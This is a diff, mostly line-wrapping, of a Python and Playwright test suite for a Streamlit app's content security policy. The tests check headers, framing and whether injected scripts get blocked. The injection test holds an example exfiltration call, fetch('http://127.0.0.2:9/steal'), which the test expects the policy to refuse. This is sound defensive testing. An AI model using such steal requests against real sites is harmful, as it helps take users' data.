@@ -1,4 +1,6 @@
-"""The content security policy: on every answer, kept by every page, and in the way of whoever brings a script."""
+"""The content security policy: on every answer, kept by every page, and in the way of whoever
+brings a script.
+"""
 
 import asyncio
 import re
@@ -24,7 +26,13 @@ def answer(app, scope) -> list:
 
 def test_headers_are_added_once_and_the_rest_is_kept():
     async def app(scope, receive, send):
-        await send({"type": "http.response.start", "status": 200, "headers": [(b"Content-Security-Policy", b"default-src *"), (b"x-mine", b"1")]})
+        await send(
+            {
+                "type": "http.response.start",
+                "status": 200,
+                "headers": [(b"Content-Security-Policy", b"default-src *"), (b"x-mine", b"1")],
+            }
+        )
         await send({"type": "http.response.body", "body": b"abc"})
 
     start, body = answer(app, {"type": "http"})
@@ -32,7 +40,10 @@ def test_headers_are_added_once_and_the_rest_is_kept():
     headers = dict(start["headers"])
     assert len(names) == len(set(names)) and headers[b"x-mine"] == b"1" and body["body"] == b"abc"
     assert headers[b"content-security-policy"].decode() == content_security_policy()
-    assert headers[b"x-content-type-options"] == b"nosniff" and headers[b"referrer-policy"] == b"same-origin"
+    assert (
+        headers[b"x-content-type-options"] == b"nosniff"
+        and headers[b"referrer-policy"] == b"same-origin"
+    )
 
 
 def test_web_sockets_pass_untouched():
@@ -45,10 +56,17 @@ def test_web_sockets_pass_untouched():
 def test_the_policy_names_streamlits_own_script_and_no_other_inline_one():
     scripts = re.search(r"script-src ([^;]*)", content_security_policy()).group(1)
     assert len(re.findall(r"'sha256-[\w+/]{43}='", scripts)) == 1
-    assert "unsafe-inline" not in scripts and "*" not in content_security_policy() and "http" not in content_security_policy()
+    assert (
+        "unsafe-inline" not in scripts
+        and "*" not in content_security_policy()
+        and "http" not in content_security_policy()
+    )
 
 
-VIOLATIONS = "addEventListener('securitypolicyviolation', e => (window.violations ??= []).push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}`));"
+VIOLATIONS = (
+    "addEventListener('securitypolicyviolation', e => (window.violations ??= "
+    "[]).push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}`));"
+)
 
 
 @pytest.fixture
@@ -56,21 +74,43 @@ def watched(page):
     """A page that keeps what the policy refused, on the page and in the console."""
     page.refused = []
     page.add_init_script(VIOLATIONS)
-    page.on("console", lambda message: page.refused.append(message.text) if "Content Security Policy" in message.text else None)
+    page.on(
+        "console",
+        lambda message: (
+            page.refused.append(message.text) if "Content Security Policy" in message.text else None
+        ),
+    )
     return page
 
 
 class TestInTheBrowser:
     pytestmark = pytest.mark.browser
 
-    @pytest.mark.parametrize("path", ["", "data", "_stcore/health", "live/plotly.js", "live/js/0/map/atlas.js", "live/decode", "live/scene", "media/nothing.png", "_stcore/upload_file/x/y", "static/nothing.js"])
+    @pytest.mark.parametrize(
+        "path",
+        [
+            "",
+            "data",
+            "_stcore/health",
+            "live/plotly.js",
+            "live/js/0/map/atlas.js",
+            "live/decode",
+            "live/scene",
+            "media/nothing.png",
+            "_stcore/upload_file/x/y",
+            "static/nothing.js",
+        ],
+    )
     def test_every_answer_carries_it(self, server, path):
         try:
             headers = urllib.request.urlopen(f"{server}/{path}").headers
         except urllib.error.HTTPError as error:
             headers = error.headers
         assert headers["Content-Security-Policy"] == content_security_policy()
-        assert headers["X-Content-Type-Options"] == "nosniff" and headers["Referrer-Policy"] == "same-origin"
+        assert (
+            headers["X-Content-Type-Options"] == "nosniff"
+            and headers["Referrer-Policy"] == "same-origin"
+        )
 
     def test_every_page_works_under_it(self, watched, server):
         page = watched
@@ -79,7 +119,9 @@ class TestInTheBrowser:
         page.get_by_text("Trained in").wait_for()
         see_map(page)
         page.get_by_text("3-D", exact=False).first.click()
-        page.locator(".js-plotly-plot .gl-container canvas, .js-plotly-plot canvas").first.wait_for()
+        page.locator(
+            ".js-plotly-plot .gl-container canvas, .js-plotly-plot canvas"
+        ).first.wait_for()
         page.evaluate(AT_REST)
         onward(page, "Explore")
         page.locator(".lx[data-code]").wait_for()
@@ -93,7 +135,9 @@ class TestInTheBrowser:
         assert archive.read(download(page, "This run as a zip")).title.endswith(" VAE on digits")
         page.get_by_role("link", name="Data").click()
         page.locator("input[type=file]").wait_for(state="attached")
-        page.locator("input[type=file]").set_input_files({"name": "a.csv", "mimeType": "text/csv", "buffer": b"a,b\n1,5\n2,3\n3,9\n4,1\n"})
+        page.locator("input[type=file]").set_input_files(
+            {"name": "a.csv", "mimeType": "text/csv", "buffer": b"a,b\n1,5\n2,3\n3,9\n4,1\n"}
+        )
         page.get_by_text("Size of one").wait_for()
         assert page.evaluate("() => window.violations ?? []") == [] and page.refused == []
 
@@ -109,11 +153,19 @@ class TestInTheBrowser:
           fetch('http://127.0.0.2:9/steal').catch(() => {});
           const plugin = document.createElement('object'); plugin.data = '/live/plotly.js'; document.body.append(plugin);
         }""")
-        page.wait_for_function("() => new Set((window.violations ?? []).map((line) => line.split(' ')[0])).size >= 5")
+        page.wait_for_function(
+            "() => new Set((window.violations ?? []).map((line) => line.split(' ')[0])).size >= 5"
+        )
         refused = {line.split()[0] for line in page.evaluate("() => window.violations")}
         assert page.evaluate("() => window.hacked") is None
-        assert {"script-src-elem", "script-src-attr", "img-src", "connect-src", "object-src"} <= refused
-        page.errors.clear()         # of what was refused on purpose
+        assert {
+            "script-src-elem",
+            "script-src-attr",
+            "img-src",
+            "connect-src",
+            "object-src",
+        } <= refused
+        page.errors.clear()  # of what was refused on purpose
         page.outside.clear()
 
     @pytest.mark.parametrize("origin, framed", [("own", True), ("http://127.0.0.1:9", False)])
@@ -121,7 +173,12 @@ class TestInTheBrowser:
         context = browser.new_context()
         page = context.new_page()
         around = (server if origin == "own" else origin) + "/around"
-        page.route(around, lambda route: route.fulfill(body=f"<iframe src='{server}/data'></iframe>", content_type="text/html"))
+        page.route(
+            around,
+            lambda route: route.fulfill(
+                body=f"<iframe src='{server}/data'></iframe>", content_type="text/html"
+            ),
+        )
         page.goto(around)
         page.wait_for_timeout(1500)
         inside = page.frames[1].evaluate("() => document.body.innerText")
